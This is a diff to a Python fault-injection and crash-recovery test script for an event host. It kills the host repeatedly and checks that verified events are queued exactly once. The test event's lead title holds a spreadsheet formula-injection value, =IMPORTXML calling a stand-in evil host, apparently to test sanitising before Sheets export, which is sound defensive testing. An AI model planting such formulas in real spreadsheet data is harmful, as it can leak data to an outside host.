@@ -6,12 +6,16 @@ push signature are checked by `cryptography`, push bodies are opened by `http_ec
 fault has a slot and one verified event of its own. Prints one table row a fault: what the host called the outcome, how
 often it was delivered, what a person sees. Exits 1 when something differs from what is expected or came twice.
 
-Usage: staff_faults.py [--only PART-OF-A-NAME] [--markdown] [--binary PATH]
+With --crash N the host is killed N times around a POST /events/verified instead: what was acknowledged is there, and
+whatever was offered again stands in each queue once.
+
+Usage: staff_faults.py [--only PART-OF-A-NAME] [--crash N] [--keep] [--binary PATH]
 """
 import argparse
 import base64
 import json
 import os
+import random
 import shutil
 import socket
 import struct
@@ -110,6 +114,7 @@ FAULTS = {
     "push-301": ("push", {PUSH: [refused(301, {"Location": "https://example.com/"})]}, ("dead", "301"), 0),
     "push-closed-before": ("push", {PUSH: [CLOSE]}, SENT, 1),
     "push-closed-after": ("push", {PUSH: [done("close")]}, SENT, 1),
+    "contact-unusable": ("outbox", {}, ("dropped", "no_contact"), 0),
     "push-no-device": ("push", {}, ("dropped", "no_contact"), 0),
 }
 # A receiver that honours the id, or a topic that replaces, shows a repeat once.
@@ -360,9 +365,13 @@ class House:
                 self.write("keys/%s.json" % name, json.dumps(receiver.account(name)), 0o600)
                 variable = "SHEETS_SERVICE_ACCOUNT__%s_FILE" % name.upper().replace("-", "_")
                 environment[variable] = os.path.join(self.folder, "keys", name + ".json")
+        self.environment = environment
         self.log = open(os.path.join(self.folder, "host.log"), "w")
-        self.host = subprocess.Popen([binary, "serve", "--no-slots", "--home", self.folder, "--port", "0"],
-                                     env=environment, stdout=self.log, stderr=self.log)
+        self.start()
+
+    def start(self):
+        self.host = subprocess.Popen([self.binary, "serve", "--no-slots", "--home", self.folder, "--port", "0"],
+                                     env=self.environment, stdout=self.log, stderr=self.log)
         info = stage.eventually(30, self.info)
         if not info:
             raise stage.Trouble("the host did not start: " + self.folder)
@@ -378,7 +387,8 @@ class House:
     def info(self):
         try:
             with open(os.path.join(self.folder, "runtime", "host.json")) as file:
-                return json.load(file)
+                info = json.load(file)
+            return info if info["pid"] == self.host.pid else None
         except (OSError, ValueError):
             return None
 
@@ -405,11 +415,12 @@ class House:
             "Cookie": self.cookie, "Origin": self.base, "X-Engyne-CSRF": self.csrf, "Content-Type": "application/json"})
         return json.load(urllib.request.urlopen(request))
 
-    def post(self, name):
-        event = {"v": 1, "event_id": name + ":77:verified", "slot_id": name, "run_id": "r1", "lead_id": "77",
+    def post(self, name, lead="77"):
+        event = {"v": 1, "event_id": "%s:%s:verified" % (name, lead), "slot_id": name, "run_id": "r1", "lead_id": lead,
                  "at": time.strftime("%Y-%m-%dT%H:%M:%S.000Z", time.gmtime()),
-                 "lead": {"id": "77", "title": "=IMPORTXML(\"https://evil.example\")", "city": "Pune"},
-                 "contact": {"name": "Asha", "phone": "098123 45678"}, "evidence": {"by": "outside"},
+                 "lead": {"id": lead, "title": "=IMPORTXML(\"https://evil.example\")", "city": "Pune"},
+                 "contact": {"name": "Asha", "phone": "ask the office" if name == "contact-unusable" else "098123 45678"},
+                 "evidence": {"by": "outside"},
                  "plugin": {"name": "x", "version": "1", "hash": "0"}}
         request = urllib.request.Request(self.base + "/events/verified", method="POST", data=json.dumps(event).encode(),
                                          headers={"X-Engyne-Worker-Secret": WORKER_SECRET, "Content-Type": "application/json"})
@@ -442,13 +453,61 @@ def is_settled(item, wanted):
     return item["state"] in ("sent", "dead", "dropped")
 
 
+QUEUES = ("verified", "whatsapp", "telegram", "email", "sheets", "push")
+
+
+def crash(binary, rounds):
+    """Kills the host around the acknowledgement of an event, again and again; gives what was wrong."""
+    receiver, bad, acknowledged = Receiver(), [], 0
+    house = House(binary, receiver, ["push-no-device"])
+    chance = random.Random(5)
+    try:
+        for number in range(rounds):
+            lead, answers = str(1000 + number), []
+
+            def offer():
+                try:
+                    answers.append(house.post("push-no-device", lead))
+                except OSError:
+                    pass  # the host was gone: not acknowledged
+
+            thread = threading.Thread(target=offer)
+            thread.start()
+            time.sleep(chance.uniform(0, 0.15))
+            house.host.kill()
+            house.host.wait()
+            thread.join()
+            house.start()
+            again = house.post("push-no-device", lead)
+            acknowledged += len(answers)
+            if answers and again["accepted"]:
+                bad.append("lead %s was acknowledged before the kill and new after it" % lead)
+            key = "push-no-device:%s:verified" % lead
+
+            def counts():
+                found = {queue: sum(1 for line in stage.lines(os.path.join(house.folder, "runtime", queue + "_queue.jsonl"))
+                                    if line["payload"]["event_id"] == key) for queue in QUEUES}
+                return found if all(found.values()) else None
+
+            found = stage.eventually(20, counts)
+            if not found or set(found.values()) != {1}:
+                bad.append("lead %s stands in the queues %s" % (lead, found))
+    finally:
+        house.end()
+    print("%d kills, %d of them after the acknowledgement" % (rounds, acknowledged))
+    return bad, house
+
+
 def main():
     parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
     parser.add_argument("--only", default="")
-    parser.add_argument("--markdown", action="store_true")
+    parser.add_argument("--crash", type=int, default=0)
     parser.add_argument("--keep", action="store_true")
     parser.add_argument("--binary", default=os.path.join(ROOT, ".build", "debug", "engyne-host"))
     options = parser.parse_args()
+    if options.crash:
+        bad, house = crash(options.binary, options.crash)
+        return finish(house, bad, options.keep, "%d kills" % options.crash)
     names = [name for name in FAULTS if options.only in name]
     receiver = Receiver()
     house = House(options.binary, receiver, names)
@@ -487,14 +546,17 @@ def main():
         print("\n%d of %d devices are still subscribed" % (len(kept), len(receiver.devices)))
     finally:
         house.end()
-    bad += receiver.complaints
+    finish(house, bad + receiver.complaints, options.keep, "%d faults" % len(names))
+
+
+def finish(house, bad, keep, what):
     for line in bad:
         print("WRONG  " + line)
-    if bad or options.keep:
+    if bad or keep:
         print("kept: " + house.folder)
     else:
         shutil.rmtree(house.folder)
-    print("%d faults, %d wrong" % (len(names), len(bad)))
+    print("%s, %d wrong" % (what, len(bad)))
     sys.exit(1 if bad else 0)
 
 
